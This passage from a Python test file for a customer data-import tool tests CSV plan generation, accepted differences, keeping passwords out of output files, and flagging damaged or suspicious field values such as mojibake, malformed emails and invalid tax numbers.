    (difference,) = spreadsheet_rows(made.folder / "differences.csv")
    assert f"'{formula}" in difference["platform_value"]
    for path in made.folder.glob("*.csv"):
        with path.open(
            encoding="cp1252" if path.name == "rejects.csv" else "utf-8-sig", newline=""
        ) as file:
            for row in csv.reader(file, delimiter="," if path.name == "lines.csv" else ";"):
                assert [cell for cell in row if neutralize(cell) != cell] == [], path


def test_a_plan_rests_on_the_last_walk_that_was_not_held_back(platform: Bridge) -> None:
    run = platform.one("SELECT run_id FROM ops.coverage WHERE resource = 'customers'")
    for key in platform.platform.state.ids("customers")[:5]:
        platform.platform.state.remove("customers", key)
    second = platform.pull("customers", "promotions")
    assert (second.exit_code, bool(second.published)) == (ExitCode.COVERAGE, True)
    made = customers("NEW1;Ana;new@example.test;;\n")
    assert load(made.folder / "mapping.toml").generate_passwords == "mail"
    read = made.manifest.read
    assert read is not None
    assert (read.run_id, read.verdict, read.rows) == (run, "complete", 6)


def test_differences_that_a_person_has_accepted_are_counted_and_not_listed(
    platform: Bridge,
) -> None:
    os.environ["DLT_PROJECT_DIR"] = str(Path.cwd())
    first, second, *_ = platform.dicts("SELECT * FROM raw.customers ORDER BY id")
    rows = f"{first['erp_code']};=Otra;{first['email']};;\n{second['erp_code']};Otra;{second['email']};1;\n"
    made = customers(rows, out=Path("before"))
    assert fates(made) == dict.fromkeys((2, 3), ("exists_differs", ""))
    header, *found = (made.folder / "differences.csv").read_text("utf-8").splitlines()
    (accepted := Path("accepted.csv")).write_text("\n".join([header, *found[:1]]), "utf-8")
    made = customers(rows, out=Path("after"))
    assert fates(made) == {2: ("exists_same", ""), 3: ("exists_differs", "")}
    assert (made.folder / "differences.csv").read_text("utf-8").splitlines() == [header, *found[1:]]
    assert "1 difference not listed: accepted in accepted.csv" in summary_of(made)
    assert "until reconcile.country" in summary_of(made)  # a phone differs
    keys = "".join(
        f"{one['id']},{key}\n" for one in (first, second) for key in ("erpCode", "email")
    )
    accepted.write_text(
        f"customer_id,field\n{second['id']},firstName\n{second['id']},phone\n{keys}", "utf-8"
    )
    assert fates(customers(rows, out=Path("any"))) == {
        2: ("exists_differs", ""),
        3: ("exists_same", ""),
    }
    made = customers(f"{first['erp_code']};;{second['email']};;\n", out=Path("ambiguous"))
    assert (fates(made), made.statistics.accepted) == ({2: ("ambiguous", "")}, 0), (
        "how they were found is accepted"
    )
    accepted.write_text("")
    with pytest.raises(UsageError, match=r"differences\.csv into it, or remove it"):
        customers(rows, out=Path("empty"))


def test_customers_need_a_warehouse_of_the_same_host_and_all_that_lacks_is_named(
    platform: Bridge,
) -> None:
    row, warehouse = "A;Ana;a@x.es;;\n", os.environ["WAREHOUSE__PATH"]

    def lacking(*words: str, **more: Any) -> None:
        with pytest.raises(UsageError) as reported:
            customers(row, **more)
        assert [one for one in words if one not in str(reported.value)] == []

    os.environ["WAREHOUSE__PATH"] = "none.duckdb"
    del os.environ["SOURCES__LEGACY__LOGIN_MODE"]
    every = ("no warehouse at", "orderbridge pull customers", "--passwords", "login_mode")
    lacking("3 things are missing", *every, passwords=None)
    os.environ |= {"SOURCES__LEGACY__LOGIN_MODE": "email", "WAREHOUSE__PATH": warehouse}
    lacking("column", "--passwords mail", "--passwords file", "map a column", passwords=None)
    made = customers(row, CUSTOMERS + '[passwords]\nmake = "file"\n', passwords=None)
    assert operations(made)[0].password == "stored"
    os.environ["SOURCES__LEGACY__BASE_URL"] = HOST
    lacking("were read from", "orderbridge pull customers")
    update(platform, "DELETE FROM ops.coverage")
    lacking("has no customers read from the platform", "orderbridge pull customers")


def test_a_password_is_nowhere_in_the_plan(platform: Bridge) -> None:
    mapping = CUSTOMERS + '"Clave" = "password"\n'
    rows = "Código;Nombre;Correo;Teléfono;NIF;Clave\nA;Ana;a@x.es;;;hunter2\nB;;;;;hunter3\nC;Ana;c@x.es;;;hunter4\n"
    rows += "C;Ana;c@x.es;;;hunter4\nD;Ana;d@x.es;;;hunter5\nD;Ana;d@x.es;;;hunter6\n"
    made = planned("customers", Path.cwd(), rows, mapping)
    assert [(one.keys["erpCode"], one.password) for one in operations(made)] == [
        ("A", "input"),
        ("C", "input"),
    ]
    conflicting = ("rejected", "conflicting_lines")
    assert fates(made) == {
        3: ("rejected", "required"),
        5: ("merged", ""),
        6: conflicting,
        7: conflicting,
    }
    assert b"hunter" not in b"".join(files_of(made.folder).values())
    assert b"must be filled in again" in (made.folder / "rejects.csv").read_bytes()
    words = [line.words for line in Plan(made.folder).unsent_lines()]
    assert words[-1].endswith("line 6 has the same Código, but another Clave")
    assert made.manifest.password_column == "Clave"


def test_a_text_of_a_list_that_lost_letters_is_held_with_its_cell(platform: Bridge) -> None:
    made = customers("A;Ana;a@x.es;;AB?c\n", holds_damaged=True)
    (line,) = Plan(made.folder).unsent_lines()
    assert (line.outcome, line.field, line.code) == ("held", "documents[0].number", "lost_letter")
    assert line.words.startswith("NIF «AB?c»")


def test_the_commands_of_a_summary_work_as_printed(platform: Bridge, tmp_path: Path) -> None:
    """Without a mapping file, with the choice of passwords made on the command line."""
    (tmp_path / "in.csv").write_text("erpCode,firstName,email\nA,Ana,a@x.es\nB,,\n", "utf-8")
    env, folder = dict(os.environ), tmp_path / "my plan"
    plan = [
        "plan",
        "customers",
        "in.csv",
        "--passwords",
        "file",
        "--notify-customers",
        "--out",
        "my plan",
    ]
    done = command(*plan, env=env, cwd=tmp_path)
    assert done.code == 5, done.said
    of_terminal, of_summary = (
        [shlex.split(line)[1:] for line in text.splitlines() if line.startswith("    orderbridge ")]
        for text in (done.out, (folder / "summary.md").read_text("utf-8"))
    )
    for is_again in (False, True):
        sent = command(*of_summary[0], env=env, cwd=folder)
        assert "1  confirmed" in sent.out, sent.said
        assert ("nothing was left to send" in sent.out) == is_again, (
            "only a push that sent nothing says so"
        )
    again = command(*plan, env=env, cwd=tmp_path)
    assert "Nothing is left to send." in again.out, "a plan that was pushed says so"
    assert "Nothing was sent yet" not in again.out + (folder / "summary.md").read_text("utf-8")
    for plan_rejects, cwd in ((of_terminal[1], tmp_path), (of_summary[1], folder)):
        again = command(*plan_rejects, "--out", str(tmp_path / "again"), env=env, cwd=cwd)
        assert (again.code, "1 line rejected" in again.out) == (5, True), again.said


NONE: frozenset[str] = frozenset()


def found(
    name: str, *values: Any, increments: frozenset[str] = NONE, is_sheet: bool = False
) -> list[Reason]:
    """The reasons for values of a field, on lines from 2 on."""
    texts = [None if value is None else msgspec.json.encode(value).decode() for value in values]
    lines = pa.array([[line] for line in range(2, 2 + len(texts))])
    collected = SuspiciousValues(increments, is_sheet=is_sheet, country="ES")
    collected.add(
        pa.table({"lines": lines, "path": ["/p"] * len(texts), name: pa.array(texts, pa.string())})
    )
    return collected.reasons()


DAMAGED: list[tuple[str, str, list[Any], list[Any]]] = [
    ("firstName", "invisible", ["x\u200b", "\ufeffx", "x\u202ey", "x\x07", "x\x85", "x\x1f", "a\u00adb", "\\\x08"],
     ["Año – «x»", "line\nline\ttab", "日本", "c:\\b\\f", "\u00a0"]),
    ("firstName", "mojibake", ["José".encode().decode("cp1252"), "Cittâ€™", "Nº Âº", "Mu├▒oz"], ["JOÃO", "Âge"]),
    ("firstName", "lost_letter", ["Mu?oz", "Ana Garc?a", "?lvarez"], ["Jos?", "Who? me", "http://x.es/a?b=1", "¿Qué?"]),
    ("firstName", "null_word", ["NULL", "\\N", "n/a", "(null)"], ["Null", "Nan", "NULL 2", "N", "\\\\N"]),
    ("sku", "date", ["01-nov", "Nov-11", "01/11/2026", "2026-11-01"], ["1-11", "11-22-33", "mar-a", "5-NOVA"]),
    ("email", "not_an_address",
     ["x", "a@b", "a@b.es, c@d.es", "mailto:a@b.es", ".a@b.es", "a.@b.es", "a..b@x.es", "a@.b.es", "a@b..es", "a@-x.es",
      "a@x-.es", "a@b.-x.es", "a@b.es-"],
     ["o'b@x.es", "ñ@ñ.es", "a.b@x-y.es", "-a-@b.es", "a@b--c.xn--p1ai"]),
    ("email", "address_mistyped", ["a@gmail.con", "a@b.cmo", "A@GMIAL.com", "a@hotmail.co", "a@yaho.es"],
     ["a@gmail.com", "a@b.co", "a@con.es", "a@gmail.com.mx", "a@maiyaho.com", "a@hotmail.com.co"]),
    ("documents", "tax_number", [[{"number": "B58378432"}], [{"number": "12.345.678-A"}], [{"number": "PT501964842"}],
     [{"number": "B58378431"}, {"number": "ES B5837843 2"}]],
     [[{"number": "B58378431"}], [{"number": "12345678z"}], [{"number": "PT501964843"}], [{"number": "AB123456"}],
      [{"number": "4711"}], [{"number": "Esther 1"}], None]),
    ("documents", "tax_number_form", [[{"number": "5012345X9"}], [{"number": "4711"}, {"number": "B-5837843-K-1"}]],
     [[{"number": "X1234567L"}], [{"number": "desconoci"}], [{"number": "52998224725"}], None]),
    ("documents", "tax_number_length", [[{"number": n}] for n in ("B5837843", "1234.5678", "B-58378431-9")],
     [*([{"number": n}] for n in ("B58378431", "B4711", "123456789012345", "ABC12345")), None]),
    ("phone", "no_digits", ["France", "–"], ["+34 600 112", "٠١٢٣٤٥"]),
    ("phone", "few_digits", ["987-65-AB", "France 12", "٠١"], ["987-654", "France 112 112"]),
    ("price", "not_positive", [0, -1.5], [0.01, None]),
    ("stock", "negative", [-2], [0, None]),
    ("documents", "document_number_missing",
     [[{"fiscalName": "Ana"}], [{"number": " "}], [{"number": "N1"}, {"fiscalName": 'a"number":"N2'}]],
     [[{"number": "N1"}, {"number": "N2", "isDefault": True}], [{"number": 'N"1', "fiscalName": ',{"},{}'}], [], None]),
]  # fmt: skip


@pytest.mark.parametrize(
    ("name", "code", "bad", "good"), DAMAGED, ids=[code for _, code, *_ in DAMAGED]
)
def test_texts_and_numbers_that_are_rarely_meant_are_pointed_out(
    name: str, code: str, bad: list[Any], good: list[Any]
) -> None:
    (reason,) = found(name, *bad, *good)
    assert (reason.field, reason.code, reason.lines) == (name, code, len(bad))
    assert reason.first == list(range(2, 2 + len(bad)))[:5]
    assert found(name, *good) == []


def test_a_new_customer_without_a_name_is_pointed_out(platform: Bridge) -> None:
    mapping = f'{CUSTOMERS}"Empresa" = "documents[0].fiscalName"\n'
    planned_rows = "A;Ana;a@x.es;;;\nB;;b@x.es;;1;Bar B\nC;;c@x.es;;2;\nD;;d@x.es;;;\n"
    header = "Código;Nombre;Correo;Teléfono;NIF;Empresa\n"
    folder = Path.cwd()
    made = planned("customers", folder, header + planned_rows, mapping, passwords="file")
    assert made.exit_code == 0
    assert {("", "only_fiscal_name", 1, (3,)), ("", "nameless", 2, (4, 5))} <= {
        (*others, tuple(lines)) for *others, lines in suspicious(made)
    }


def test_an_id_of_0_is_pointed_out(work: Path) -> None:
    made = variants(work, "0;1;a;5;1\n1;0;b;5;1\n10;20;c;5;1\n", VARIANTS)
    assert made.manifest.sent == 3
    [reason] = made.statistics.suspicious
    assert (reason.code, reason.first) == ("zero_id", [2, 3])


def test_an_increment_may_be_negative_or_twice_and_a_price_has_few_decimals() -> None:
    increments = frozenset({"stock"})
    assert found("stock", -2, increments=increments) == found("price", 1.234) == []
    assert [
        (reason.code, reason.first) for reason in found("price", 1.23, 1.234, is_sheet=True)
    ] == [("decimals", [3])]
    collected = SuspiciousValues(increments)
    collected.add_merged(
        pa.table({"lines": pa.array([[3], [4]]), "stock": ["3", None], "sku": ["1", "2"]})
    )
    assert [(reason.field, reason.code, reason.first) for reason in collected.reasons()] == [
        ("stock", "merged", [3])
    ]
